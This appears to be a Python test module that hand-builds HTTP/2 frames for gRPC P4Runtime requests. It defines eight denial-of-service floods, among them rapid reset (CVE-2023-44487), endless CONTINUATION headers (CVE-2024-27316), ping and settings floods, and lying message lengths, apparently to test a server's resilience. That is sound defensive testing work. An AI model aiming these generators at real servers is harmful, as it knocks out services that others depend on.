# SPDX-License-Identifier: Apache-2.0
"""HTTP/2 (RFC 9113) by hand, as a library would not send what may not be sent; and floods of frames that cost the
sender little. `tests/hostile` sends the same."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """A literal that is not indexed (RFC 7541 6.2.2), of less than 127 bytes each."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def request(path: bytes) -> bytes:
    """The header block of a gRPC request."""
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"switch")]
    fields += [(b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"".join(header(name, value) for name, value in fields)


HELLO = PREFACE + frame(SETTINGS, 0, 0)
READ = request(b"/p4.v1.P4Runtime/Read")
WRITE = request(b"/p4.v1.P4Runtime/Write")

# Each flood takes how many frames it is at most: the server ends most of them early.


def rapid_reset(many: int) -> Iterator[bytes]:
    """Requests that are taken back at once: each may cost the server more than the client (CVE-2023-44487)."""
    yield HELLO
    for n in range(many):
        stream = 2 * n + 1
        yield frame(HEADERS, END_HEADERS, stream, READ) + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))


def endless_headers(many: int) -> Iterator[bytes]:
    """A header block that never ends (CVE-2024-27316): it must not be kept as it comes."""
    yield HELLO + frame(HEADERS, 0, 1, READ)
    for n in range(many):
        yield frame(CONTINUATION, 0, 1, header(b"x-%d" % n, b"y" * 100) * 8)


def many_streams(many: int) -> Iterator[bytes]:
    """Writes that never come: as many streams as there may be, and more."""
    yield HELLO
    for n in range(many):
        yield frame(HEADERS, END_HEADERS, 2 * n + 1, WRITE) + frame(DATA, 0, 2 * n + 1, b"\0\0\x10\0\0")


def pings(many: int) -> Iterator[bytes]:
    """Each wants an answer, which nobody reads."""
    yield HELLO
    for n in range(many):
        yield frame(PING, 0, 0, struct.pack("!Q", n)) * 8


def settings(many: int) -> Iterator[bytes]:
    """The same, and each may change all windows."""
    yield HELLO
    for n in range(many):
        yield frame(SETTINGS, 0, 0, struct.pack("!HI", 4, n % 2**31)) * 4


def empty_data(many: int) -> Iterator[bytes]:
    """Frames without a byte count against no window."""
    yield HELLO + frame(HEADERS, END_HEADERS, 1, WRITE)
    for _ in range(many):
        yield frame(DATA, 0, 1) * 16


def windows_beyond_all(many: int) -> Iterator[bytes]:
    """Windows that overflow, on streams that there are not."""
    yield HELLO
    for n in range(many):
        yield frame(WINDOW_UPDATE, 0, n % 99, struct.pack("!I", 2**31 - 1)) * 4


def lengths_that_lie(many: int) -> Iterator[bytes]:
    """A message of 4 GB is announced, and a compressed one that is none."""
    yield HELLO + frame(HEADERS, END_HEADERS, 1, WRITE) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff" + bytes(1000))
    yield frame(HEADERS, END_HEADERS, 3, WRITE) + frame(DATA, 1, 3, b"\1\0\0\0\4abcd")


FLOODS: list[Callable[[int], Iterator[bytes]]] = [
    rapid_reset, endless_headers, many_streams, pings, settings, empty_data, windows_beyond_all, lengths_that_lie,
]  # fmt: skip
